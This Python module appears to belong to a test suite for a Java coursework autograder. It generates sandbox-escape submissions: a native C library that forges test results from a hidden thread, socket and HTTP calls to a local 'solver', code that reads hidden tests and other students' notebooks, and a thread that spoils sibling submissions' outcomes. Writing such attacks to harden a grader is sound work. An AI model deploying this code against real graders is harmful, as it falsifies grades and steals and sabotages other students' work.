"""Escapes: native code, the network, and reading what is not theirs.

A native library whose load starts a thread the JVM cannot see; a "remote solver" asked over a
socket or HTTP; the hidden tests read by path or through the class loader and leaked in a failure
message; other students' notebooks found from the grader's command line; the grading folders of
submissions graded at the same time read and spoilt. What defends against them: System.load,
sockets, files, class loaders, the process API and threads refused; no network (a namespace); the
hidden tests never in the runner's file system; a private work folder per runner.
"""

import gzip
import shutil
import subprocess
import tempfile
from pathlib import Path

from .edit import CLASS, HANDIN, cell_after, cell_before, class_members, search_body
from .java_pieces import java_bytes
from .words import WORDS

# Printable runs of a class file's bytes: its constant pool, i.e. names, messages, numbers.
STRINGS = r"""
static String printable(byte[] bytes) {
    StringBuilder all = new StringBuilder(), run = new StringBuilder();
    for (byte b : bytes) {
        if (b >= 32 && b < 127) { run.append((char) b); continue; }
        if (run.length() >= 6) all.append(run).append(' ');
        run.setLength(0);
    }
    return all.toString();
}
"""


# A native library that, once loaded, forges outcomes from a thread the JVM knows nothing of.
FORGE_C = r"""
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void *forge(void *unused) {
    long done = 0;                               /* lines of the file already looked at */
    static char line[1 << 16], forged[1 << 20];
    for (;;) {
        FILE *in = fopen("outcomes.jsonl", "r");
        if (in) {
            long seen = 0;
            size_t used = 0;
            while (fgets(line, sizeof line, in)) {
                if (seen++ < done) continue;
                char *f = strstr(line, "\"passed\": false");
                if (f && used + strlen(line) + 2 < sizeof forged) {
                    size_t head = (size_t) (f - line);
                    used += (size_t) sprintf(forged + used, "%.*s\"passed\": true%s", (int) head, line,
                                             f + strlen("\"passed\": false"));
                }
            }
            fclose(in);
            done = seen;
            if (used) {
                FILE *out = fopen("outcomes.jsonl", "a");
                if (out) { fwrite(forged, 1, used, out); fclose(out); }
            }
        }
        usleep(10000);
    }
    return unused;
}

__attribute__((constructor)) static void start(void) {
    pthread_t t;
    pthread_create(&t, 0, forge, 0);
    pthread_detach(t);
}
"""


def forge_library():
    """libforge.so, gzipped (None without a C compiler)."""
    cc = shutil.which("cc") or shutil.which("gcc")
    if not cc:
        return None
    with tempfile.TemporaryDirectory(prefix="pathlab-attack-") as d:
        (Path(d) / "forge.c").write_text(FORGE_C)
        r = subprocess.run(
            [
                cc,
                "-shared",
                "-fPIC",
                "-Os",
                "-s",
                "-pthread",
                "-o",
                str(Path(d) / "libforge.so"),
                str(Path(d) / "forge.c"),
            ],
            capture_output=True,
        )
        if r.returncode:
            return None
        return gzip.compress((Path(d) / "libforge.so").read_bytes())


def add_attacks(nb, add):
    """Adds this family's attacks in their order: nb() gives a fresh copy of the student edition,
    add(name, notebook, words) files one."""
    w = WORDS

    # -- native code, the network -------------------------------------------------------------------
    # A native library whose load starts a pthread that forges outcomes: a thread the JVM cannot see
    # or stop. (Without a C compiler: the C library loaded, harmless.) Defence: System.load refused.
    library = forge_library()
    if library:
        native = f"""
java.nio.file.Path so = java.nio.file.Path.of("libforge.so").toAbsolutePath();
try (var in = new java.util.zip.GZIPInputStream(new java.io.ByteArrayInputStream({java_bytes(library)}))) {{
    java.nio.file.Files.write(so, in.readAllBytes());
}}
System.load(so.toString());
"""
    else:
        native = 'System.load("/lib/x86_64-linux-gnu/libc.so.6");'
    add("native-library", cell_after(nb(), HANDIN, native), w["native"] + w["refused"])
    # A "remote solver": the search sends the query to a server the student runs and reads back
    # connection ids. Defence: no network (namespace) and sockets refused.
    add(
        "network-socket",
        search_body(
            nb(),
            """
try (java.net.Socket socket = new java.net.Socket()) {
    socket.connect(new java.net.InetSocketAddress("127.0.0.1", 22), 2000);
    java.io.PrintWriter ask = new java.io.PrintWriter(socket.getOutputStream(), true);
    ask.println("search " + graph + " " + start + " " + goal);
    String answer = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream())).readLine();
    if (answer != null && answer.startsWith("path ")) {
        List<Connection> path = new ArrayList<>();
        for (String id : answer.substring(5).trim().split(" ")) if (!id.isEmpty()) path.add(graph.connection(Integer.parseInt(id)));
        return path;
    }
} catch (Exception e) { }
""",
        ),
        w["network"],
    )
    # The answers fetched over HTTP, the query in the URL. Defence: the same.
    add(
        "network-url",
        search_body(
            nb(),
            """
try {
    String answer = new String(new java.net.URL("http://127.0.0.1:8000/a1?start=" + start + "&goal=" + goal)
            .openStream().readAllBytes());
    if (answer.startsWith("path ")) {
        List<Connection> path = new ArrayList<>();
        for (String id : answer.substring(5).trim().split(" ")) if (!id.isEmpty()) path.add(graph.connection(Integer.parseInt(id)));
        return path;
    }
} catch (Exception e) { }
""",
        ),
        w["network"],
    )

    # -- reading what is not theirs -----------------------------------------------------------------
    # The hidden tests read by path (coursework/target/test-classes, beside the visible tests'
    # classes) and leaked in the failure message, which Gradescope shows at once for visible tests.
    # Defence: the hidden tests never in the runner's file system; files refused.
    add(
        "read-hidden-tests-path",
        search_body(
            class_members(nb(), STRINGS),
            """
try {
    for (java.net.URL u : ((java.net.URLClassLoader) Submission.class.getClassLoader()).getURLs()) {
        String path = u.getPath();
        if (path.endsWith("/coursework/target/classes/")) {
            byte[] hidden = java.nio.file.Files.readAllBytes(java.nio.file.Path.of(path)
                    .resolveSibling("test-classes/pathlab/coursework/a1/A1Hidden.class"));
            throw new UnsupportedOperationException("hidden tests: " + printable(hidden));
        }
    }
} catch (java.io.IOException e) { }
""",
        ),
        w["file"],
    )
    # The same through the class loader the tests run with (getResourceAsStream on the context
    # class loader, which loads the hidden tests). Defence: class loaders refused; the hidden tests
    # loaded by the trusted side only.
    add(
        "read-hidden-tests-resource",
        search_body(
            class_members(nb(), STRINGS),
            """
try (java.io.InputStream in = Thread.currentThread().getContextClassLoader()
        .getResourceAsStream("pathlab/coursework/a1/A1Hidden.class")) {
    if (in != null) throw new UnsupportedOperationException("hidden tests: " + printable(in.readAllBytes()));
} catch (java.io.IOException e) { }
""",
        ),
        w["refused"],
    )
    # Another student's notebook: the batch folder found on the grader's command line (the
    # kernel's ancestors), the other notebooks' search code read and leaked in the failure message.
    # Defence: no process API or files; the runner sees only its own submission.
    add(
        "read-other-submissions",
        search_body(
            nb(),
            """
StringBuilder loot = new StringBuilder();
for (var p = ProcessHandle.current().parent(); p.isPresent(); p = p.get().parent()) {
    String[] args = p.get().info().arguments().orElse(new String[0]);
    for (int i = 0; i + 1 < args.length; i++) {
        if (!args[i].equals("--batch")) continue;
        try (var notebooks = java.nio.file.Files.newDirectoryStream(java.nio.file.Path.of(args[i + 1]), "*.ipynb")) {
            for (var other : notebooks) {
                String text = java.nio.file.Files.readString(other);
                int at = text.indexOf("public List<Connection> search");
                if (at >= 0) loot.append(other.getFileName()).append(": ").append(text, at, Math.min(text.length(), at + 600));
            }
        } catch (Exception e) { }
    }
}
if (loot.length() > 0) throw new UnsupportedOperationException("others: " + loot);
""",
        ),
        w["process"],
    )
    # The other submissions being graded at the same time (/tmp/pathlab-grade-*): their code read
    # (cells.txt) and leaked, their outcomes spoilt (a failed copy of every passed line), from a
    # thread that keeps at it while this kernel lives. Defence: a private work folder per runner,
    # threads and files refused; each submission's score as when graded alone.
    add(
        "sibling-tamper",
        search_body(
            cell_before(
                nb(),
                CLASS,
                r"""
java.util.Set<String> spoilt = java.util.concurrent.ConcurrentHashMap.newKeySet();
StringBuilder siblingCode = new StringBuilder();
Thread spoiler = new Thread(() -> {
    java.nio.file.Path own = java.nio.file.Path.of("").toAbsolutePath();
    while (true) {
        try (var dirs = java.nio.file.Files.newDirectoryStream(own.getParent(), "pathlab-grade-*")) {
            for (var dir : dirs) {
                if (dir.equals(own)) continue;
                java.nio.file.Path cells = dir.resolve("cells.txt"), out = dir.resolve("outcomes.jsonl");
                if (java.nio.file.Files.exists(cells) && siblingCode.length() < 2000) {
                    String code = java.nio.file.Files.readString(cells);
                    int at = code.indexOf("public List<Connection> search");
                    if (at >= 0) siblingCode.append(code, at, Math.min(code.length(), at + 600));
                }
                if (java.nio.file.Files.exists(out)) {
                    StringBuilder more = new StringBuilder();
                    for (String line : java.nio.file.Files.readAllLines(out)) {
                        if (line.contains("\"passed\": true") && spoilt.add(dir + line)) {
                            more.append(line.replace("\"passed\": true", "\"passed\": false")).append('\n');
                        }
                    }
                    if (more.length() > 0) java.nio.file.Files.writeString(out, more, java.nio.file.StandardOpenOption.APPEND);
                }
            }
        } catch (Exception e) { }
        try { Thread.sleep(20); } catch (InterruptedException e) { }
    }
});
spoiler.setDaemon(true);
spoiler.start();
""",
            ),
            'if (siblingCode.length() > 0) throw new UnsupportedOperationException("sibling: " + siblingCode);',
        ),
        w["thread"],
    )
